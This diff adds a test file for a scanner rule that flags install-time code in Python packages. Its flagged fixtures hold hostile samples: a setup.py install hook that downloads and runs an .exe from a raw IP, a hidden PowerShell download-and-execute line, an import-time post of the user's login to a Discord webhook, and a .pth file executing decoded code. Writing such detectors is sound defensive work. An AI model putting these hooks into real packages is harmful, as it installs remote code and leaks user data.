@@ -1,0 +1,48 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './py-install-time-code.js';
+
+ruleTest(rule, {
+  clean: [
+    {
+      name: 'ordinary setuptools setup.py',
+      file: 'setup.py',
+      code: `import os, re\nfrom setuptools import setup, find_packages\nhere = os.path.abspath(os.path.dirname(__file__))\nabout = {}\nwith open(os.path.join(here, "requests", "__version__.py")) as f:\n    exec(f.read(), about)\nsetup(name=about["__title__"], version=about["__version__"], packages=find_packages())\n`,
+    },
+    {
+      name: 'build_ext running cmake and git describe',
+      file: 'setup.py',
+      code: `import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(["cmake", ".."])\n        subprocess.check_call(["make", "-j4"])\nversion = subprocess.check_output(["git", "describe"]).decode()\nsetup(cmdclass={"build_ext": CMakeBuild})\n`,
+    },
+    { name: 'Django manage.py is not an install hook', file: 'manage.py', code: `import os, sys\nif __name__ == "__main__":\n    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site.settings")\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n` },
+    { name: '__init__ with functions only', file: 'pkg/__init__.py', code: `import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n` },
+  ],
+  flagged: [
+    {
+      name: 'cmdclass install override downloading',
+      file: 'setup.py',
+      code: `from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request, os\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        self.fetch()\n    def fetch(self):\n        urllib.request.urlretrieve("http://185.62.57.60/x.exe", os.path.expanduser("~/x.exe"))\n        os.startfile(os.path.expanduser("~/x.exe"))\nsetup(name="p", cmdclass={"install": PostInstall})\n`,
+      findings: [
+        { line: 9, message: /Network request at install time \(in PostInstall\.fetch/, severity: 'critical' },
+        { line: 10, message: /Starts a command at install time/ },
+      ],
+    },
+    {
+      name: 'top-level os.system in setup.py',
+      file: 'setup.py',
+      code: `import os\nos.system("powershell -w hidden -c iwr http://x.example.net/a.ps1 | iex")\nsetup(name="p")\n`,
+      findings: [{ line: 2, severity: 'high' }],
+    },
+    {
+      name: '__init__ import-time request',
+      file: 'pkg/__init__.py',
+      code: `import requests, os\nrequests.post("https://discord.com/api/webhooks/1/abc", data={"u": os.getlogin()})\n`,
+      findings: [{ line: 2, severity: 'high', confidence: 'medium' }],
+    },
+    {
+      name: '.pth startup exec',
+      file: 'evil.pth',
+      code: `import os; exec(os.environ.get("X") or __import__("base64").b64decode("cHJpbnQoMSk="))\n`,
+      findings: [{ line: 1, message: /exec\(\) of computed code at every Python start/ }],
+    },
+  ],
+});
